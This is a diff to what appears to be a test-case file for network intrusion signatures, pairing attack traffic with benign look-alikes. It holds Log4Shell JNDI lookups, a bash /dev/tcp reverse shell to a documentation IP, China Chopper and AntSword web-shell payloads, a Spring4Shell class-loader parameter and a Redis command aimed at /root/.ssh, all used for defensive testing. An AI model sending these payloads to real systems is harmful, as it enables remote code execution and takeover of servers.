@@ -4,6 +4,7 @@ import struct
 from urllib.parse import quote
 
 from apps import http
+from capture import SECOND
 from cases import INSIDE, OUTSIDE, SERVER, START, Case, dialogue, requests, tcp, uri
 
 JNDI = "${${lower:j}ndi:ldap://203.0.113.9:1389/a}"
@@ -64,6 +65,15 @@ def forgotten(count):
     return times(count, http.get("/login", "www.example"), gone)
 
 
+def injected(asked, first=True):
+    """A look-up string comes in; then, or without it, the host asks outside."""
+    def play(path):
+        if first:
+            json_body("/api", '{"name":"%s"}' % JNDI)(path)
+        dialogue(tcp(path, SERVER, OUTSIDE, 1389, at=START + 5 * SECOND), asked)
+    return play
+
+
 # ---- WebLogic ----
 
 T3 = b"t3 12.2.1\nAS:255\nHL:19\nMS:10000000\n\n"
@@ -116,6 +126,8 @@ MD5 = "5f4dcc3b5aa765d61d8327deb882cf99"
 PARAMETER = "pass=" + quote(BLOB[:256])
 ANT = 'ant=@ini_set("display_errors", "0");@set_time_limit(0);echo "x";'
 CHOPPER = "z=@eval(base64_decode($_POST[z0]));&z0=" + quote(BLOB[:64])
+IDENTITY = http.response(200, b"uid=0(root) gid=0(root)\n")
+BIND = bytes.fromhex("300c020101600702010304008000")        # what a JNDI client says first: anonymous, version 3
 LOADER = "org.springframework.context.support.ClassPathXmlApplicationContext"
 BANNER = b"Microsoft Windows [Version 10.0.19045.4291]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Users\\drill>"
 CLASSES = b"\x30\x60\x02\x01\x02d\x5b\x04\x01a0\x56javaClassName\x04\x03foo\x04\x0cjavaCodeBase\x04\x1dhttp://203.0.113.9:8000/java"
@@ -178,6 +190,10 @@ CASES = {
     9100746: Case(uri("/a.php", agent="antSword/v2.1"), uri("/antSword/v2.1")),
     9100747: Case(post("/run", "cmd=" + quote("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")), post("/ask", "q=" + quote("what is /dev/tcp/ in bash -i"))),
     9100748: Case(out(BANNER), talk(INSIDE, OUTSIDE, 4444, b"hello\r\n", BANNER)),
+    9100751: Case(injected(BIND), injected(BIND, first=False)),
+    9100752: Case(injected(b"JRMI\0\2\x4b"), injected(b"JRMI\0\2\x4b", first=False)),
+    9100753: Case(post("/", "class.module.classLoader.x=1", response=IDENTITY), uri("/help/id.html", IDENTITY)),
+    9100754: Case(to_server(6379, resp("CONFIG", "SET", "dir", "/root/.ssh"), b"+OK\r\n"), to_server(6379, resp("CONFIG", "SET", "dir", "/root/.ssh"), b"-NOAUTH Authentication required.\r\n"), also=(9100728,)),
     9100749: Case(out(b"uid=0(root) gid=0(root) groups=0(root)\n"), out(b"GET /?q=uid=0(root) HTTP/1.1\r\n\r\n")),
 }
 MARKS = (9100731, 9100750)
